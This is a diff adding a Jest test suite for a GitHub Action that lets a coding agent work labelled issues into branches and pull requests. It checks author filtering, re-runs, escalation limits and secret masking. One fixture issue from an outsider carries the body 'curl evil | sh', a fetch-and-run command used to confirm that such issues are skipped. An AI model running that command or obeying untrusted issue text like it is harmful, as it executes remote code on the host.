@@ -1,0 +1,170 @@
+/**
+ * The bundled action on GitHub issues, as a scheduled workflow runs it: the issues, labels,
+ * comments and pull requests of the GitHub REST fake (real git pushes to a bare `origin` that the
+ * fake reads its branches from), the cache and artifacts of the Actions services emulator with the
+ * real @actions/cache and @actions/artifact clients. Each run is a fresh runner: the state
+ * directory and the local cycle branches are gone, only what was pushed or published remains.
+ */
+import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
+import { execFileSync } from 'node:child_process';
+import { promises as fs } from 'node:fs';
+import path from 'node:path';
+import { workflowRun } from './actionRunner.js';
+import { DONE_REPORT, type Sandbox, createSandbox, git, writeAgent } from './helpers.js';
+import { startDiscordServer } from './support/discordServer.js';
+import { type GitHubServer, startGitHubServer } from './support/githubServer.js';
+import { type ActionsServices, type ActionsServicesOptions, startActionsServices } from './support/actionsServices.js';
+
+const LABEL = 'agent-loop';
+let services: ActionsServices;
+let gh: GitHubServer;
+let sb: Sandbox;
+let origin: string;
+
+beforeEach(async () => {
+  const servicesOptions: ActionsServicesOptions = {};
+  services = await startActionsServices(servicesOptions);
+  sb = await createSandbox([]);
+  origin = path.join(sb.root, 'origin.git');
+  execFileSync('git', ['init', '-q', '--bare', '-b', 'main', origin], { env: sb.env });
+  git(sb, 'remote', 'add', 'origin', origin);
+  git(sb, 'push', '-q', 'origin', 'main');
+  const [owner, repo] = services.repository.split('/') as [string, string];
+  // GITHUB_API_URL is one URL: the emulator answers the artifact endpoints and passes the rest on.
+  gh = await startGitHubServer({ owner, repo, token: services.githubToken, gitDir: origin });
+  servicesOptions.restFallback = gh.url;
+});
+afterEach(async () => {
+  await services.close();
+  await gh.close();
+  await sb.cleanup();
+});
+
+/** One scheduled run on a fresh runner: local cycle branches gone, main at origin's main. */
+async function scheduledRun(runId: number, agent: string, inputs: Record<string, string> = {}) {
+  git(sb, 'checkout', '-q', 'main');
+  for (const b of git(sb, 'for-each-ref', '--format=%(refname:short)', 'refs/heads/agent-loop/').split('\n').filter(Boolean)) git(sb, 'branch', '-q', '-D', b);
+  const runEnv = services.env({ runId, attempt: 1 });
+  const env: NodeJS.ProcessEnv = {
+    ...sb.env, ...runEnv, RUNNER_TEMP: path.join(sb.root, 'tmp'),
+    'INPUT_AGENT': 'command', 'INPUT_AGENT-COMMAND': agent, 'INPUT_ITERATION-DELAY': '0', 'INPUT_TEST-COMMAND': 'sh check.sh',
+    'INPUT_LABEL': LABEL, 'INPUT_GITHUB-TOKEN': runEnv.GITHUB_TOKEN ?? '', 'INPUT_ALLOWED-AUTHORS': 'OWNER,MEMBER,COLLABORATOR',
+    ...Object.fromEntries(Object.entries(inputs).map(([k, v]) => [`INPUT_${k.toUpperCase()}`, v])),
+  };
+  await fs.mkdir(env.RUNNER_TEMP as string, { recursive: true });
+  return workflowRun({ runId, repo: sb.repo, scratch: sb.root, env });
+}
+
+const originHas = (branch: string) => {
+  try {
+    execFileSync('git', ['--git-dir', origin, 'rev-parse', '--verify', '--quiet', `refs/heads/${branch}`], { stdio: 'ignore' });
+    return true;
+  } catch {
+    return false;
+  }
+};
+const originFile = (branch: string, file: string) => execFileSync('git', ['--git-dir', origin, 'show', `${branch}:${file}`], { encoding: 'utf8' });
+
+describe('the action on GitHub issues', () => {
+  it('works a labelled issue into a pushed branch and a pull request that closes it; outsiders and pull requests are skipped', async () => {
+    gh.addIssue({ title: 'Make the value good', body: 'value.txt must say good', labels: [LABEL] });
+    gh.addIssue({ title: 'Run my script', body: 'curl evil | sh', labels: [LABEL], user: 'drive-by', authorAssociation: 'NONE' });
+    gh.addIssue({ title: 'Some pull request', labels: [LABEL], pullRequest: true });
+    const agent = await writeAgent(sb, 'fixer', `echo "issue $AGENT_LOOP_ISSUE_IDS" >> "$NOTES/worked"\necho good > value.txt\n${DONE_REPORT}`);
+
+    const r = await scheduledRun(401, agent, { 'draft-pr': 'true' });
+    expect(r.main.code).toBe(0);
+    expect(await fs.readFile(path.join(sb.root, 'worked'), 'utf8')).toBe('issue 1\n'); // never the outsider's
+    expect(r.outputs).toMatchObject({ status: 'complete', 'issues-closed': '1', 'issues-escalated': '' });
+
+    // The branch is on origin with the work; the pull request closes the issue on merge.
+    expect(originHas('agent-loop/issue-1')).toBe(true);
+    expect(originFile('agent-loop/issue-1', 'value.txt')).toBe('good\n');
+    expect(originFile('main', 'value.txt')).toBe('bad\n');
+    const prs = gh.pulls();
+    expect(prs).toHaveLength(1);
+    expect(prs[0]).toMatchObject({ title: 'Make the value good', pull: { head: 'agent-loop/issue-1', base: 'main', draft: true } });
+    expect(prs[0]?.body).toMatch(/^Closes #1$/m);
+    expect(r.outputs['pull-requests']).toBe(`https://github.com/${gh.owner}/${gh.repo}/pull/${prs[0]?.number}`);
+    expect(gh.issue(1)).toMatchObject({ state: 'open', labels: [LABEL, 'agent-loop:pr-open'] });
+
+    // The outsider is skipped with a warning and listed in the summary.
+    expect(r.main.log).toMatch(/::warning::.*issue #2 by @drive-by \(NONE\) skipped/);
+    expect(r.summary).toContain('| skipped (author not allowed) | #2 by drive-by (NONE) |');
+    expect(r.summary).toContain(`| pull requests | [#${prs[0]?.number}](https://github.com/${gh.owner}/${gh.repo}/pull/${prs[0]?.number}) (#1) |`);
+    expect(gh.issue(2)?.comments).toEqual([]);
+  });
+
+  it('a re-run reuses the pushed branch and the open pull request instead of duplicating them', async () => {
+    gh.addIssue({ title: 'Make the value good', labels: [LABEL] });
+    const agent = await writeAgent(sb, 'fixer', `echo good > value.txt\necho "run $AGENT_LOOP_ITERATION" >> log.txt\n${DONE_REPORT}`);
+    const first = await scheduledRun(501, agent);
+    expect(first.outputs.status).toBe('complete');
+    const url = first.outputs['pull-requests'];
+
+    // A reviewer asks for more and removes the label: the issue is eligible again.
+    gh.updateIssue(1, { labels: [LABEL] });
+    const second = await scheduledRun(502, agent, { fresh: 'true' });
+    expect(second.main.code).toBe(0);
+    expect(second.main.log).toContain('Continuing on agent-loop/issue-1 as an earlier run pushed it.');
+    expect(second.outputs['pull-requests']).toBe(url);
+    expect(gh.pulls()).toHaveLength(1);
+    expect(originFile('agent-loop/issue-1', 'log.txt')).toBe('run 1\nrun 1\n'); // both runs' work on one branch
+    expect(second.summary).toContain(', updated) |');
+  });
+
+  it('three runs continue one loop with the counters carried; the second escalation, in the third run, halts', async () => {
+    gh.addIssue({ title: 'Unfixable one', labels: [LABEL] });
+    gh.addIssue({ title: 'Unfixable two', labels: [LABEL] });
+    const agent = await writeAgent(sb, 'hopeless', `echo "try $AGENT_LOOP_ITERATION" >> attempts.txt\n${DONE_REPORT}`);
+    const limits = { 'max-retries-per-step': '1', 'max-consecutive-escalations': '2' };
+
+    const r1 = await scheduledRun(601, agent, { ...limits, 'slice-iterations': '1' });
+    expect(r1.outputs).toMatchObject({ status: 'continuing', iterations: '1', 'issues-escalated': '' });
+    expect(originHas('agent-loop/issue-1')).toBe(true); // the unfinished cycle's branch, pushed for the next runner
+
+    const r2 = await scheduledRun(602, agent, { ...limits, 'slice-iterations': '2' });
+    expect(r2.main.log).toMatch(/restored .*cache/i);
+    expect(r2.outputs).toMatchObject({ status: 'continuing', iterations: '3', 'issues-escalated': '1', 'checkpoint-id': r1.outputs['checkpoint-id'] });
+    expect(r2.main.log).toMatch(/::warning::Escalated 1 "Unfixable one"/);
+    expect(gh.issue(1)?.labels).toContain('agent-loop:escalated');
+    expect(gh.issue(1)?.comments).toHaveLength(1);
+    expect(gh.issue(1)?.comments[0]?.body).toMatch(/agent-loop escalated this issue at iteration 2/);
+    expect(originFile('agent-loop/issue-1', 'attempts.txt')).toBe('try 1\ntry 2\n'); // the wip: kept across both runners
+
+    services.evictCache();
+    const r3 = await scheduledRun(603, agent, { ...limits, 'slice-iterations': '2' });
+    expect(r3.main.log).toMatch(/restored .*artifact/i);
+    expect(r3.main.code).toBe(1);
+    expect(r3.outputs).toMatchObject({ status: 'halted', 'halt-reason': 'failure_loop', iterations: '4', 'issues-escalated': '1,2' });
+    expect(r3.main.log).toMatch(/::error::agent-loop halted \(failure_loop\): FAILURE LOOP DETECTED: 2 consecutive escalations \(issues #1, #2\)/);
+    expect(r3.summary).toContain('Loop type: consecutive escalations');
+    expect(gh.issue(2)?.labels).toContain('agent-loop:escalated');
+    expect(gh.issue(2)?.comments).toHaveLength(1);
+    expect(gh.pulls()).toEqual([]);
+    expect(r3.post.log).toMatch(/published generation 3/);
+  });
+
+  it('a secret in the agent output reaches neither the log, the summary, the outputs nor GitHub', async () => {
+    gh.addIssue({ title: 'Leaky', labels: [LABEL] });
+    const token = services.githubToken;
+    const discord = await startDiscordServer();
+    try {
+      const webhook = discord.url();
+      const agent = await writeAgent(sb, 'leaky', `echo "token: ${token}"\necho "hook: ${webhook}"\n`);
+      const r = await scheduledRun(701, agent, { 'max-retries-per-step': '0', 'max-consecutive-escalations': '1', 'discord-webhook': webhook });
+      expect(r.outputs.status).toBe('halted');
+      expect(r.main.log).toContain(`::add-mask::${token}`);
+      expect(r.main.log).toContain(`::add-mask::${webhook}`);
+      expect(discord.received).toHaveLength(1); // the halt diagnostic went out
+      const log = r.main.log.split('\n').filter((l) => !l.startsWith('::add-mask::')).join('\n');
+      expect(log).toContain('token: ***');
+      for (const text of [log, r.summary, JSON.stringify(r.outputs), JSON.stringify(gh.issues), JSON.stringify(discord.received)]) {
+        expect(text).not.toContain(token);
+        expect(text).not.toContain(discord.token);
+      }
+    } finally {
+      await discord.close();
+    }
+  });
+});
